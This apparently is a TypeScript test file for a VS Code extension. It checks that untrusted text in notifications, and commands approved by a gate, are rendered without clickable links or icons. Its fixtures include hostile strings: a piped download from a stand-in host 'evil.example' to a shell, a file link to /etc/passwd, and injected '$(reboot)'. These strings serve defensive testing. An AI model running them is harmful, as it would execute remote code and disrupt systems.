import * as assert from 'node:assert/strict';
import { inert } from '../../src/extension/models/inertText';
import { gateCommandsText } from '../../src/extension/models/gateCommands';

/** VS Code's pattern for links in notification text (linkedText.ts) and for icons in labels. */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const ICON = /\$\([A-Za-z0-9-]+(?:~[A-Za-z-]+)?\)/;

describe('untrusted text in notifications and quick picks', () => {
  it('leaves no link VS Code would make clickable, and no icon, while showing the same characters', () => {
    for (const text of [
      'See [Open the fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%22%7D) for details',
      'npm ci "[&& npm run lint](https://example.com/"$(curl${IFS}-s${IFS}evil.example|sh)',
      '[a](file:///etc/passwd) [b](http://x)',
      'npm ci && $(reboot)',
    ]) {
      const shown = inert(text);
      assert.equal(shown.match(NOTIFICATION_LINK), null, shown);
      assert.doesNotMatch(shown, ICON);
      assert.equal(shown.replace(/\u200B/g, ''), text, 'nothing but invisible breaks added');
    }
    assert.equal(inert('plain text, [brackets] and (parentheses) $HOME'), 'plain text, [brackets] and (parentheses) $HOME');
  });

  it('the commands a gate approves are shown inert', () => {
    const text = gateCommandsText({ commands: [{ label: 'install', command: 'npm ci [then](command:foo.bar) && $(reboot)' }] });
    assert.equal(text.match(NOTIFICATION_LINK), null, text);
    assert.doesNotMatch(text, ICON);
    assert.match(text.replace(/\u200B/g, ''), /npm ci \[then\]\(command:foo\.bar\) && \$\(reboot\)/);
  });
});
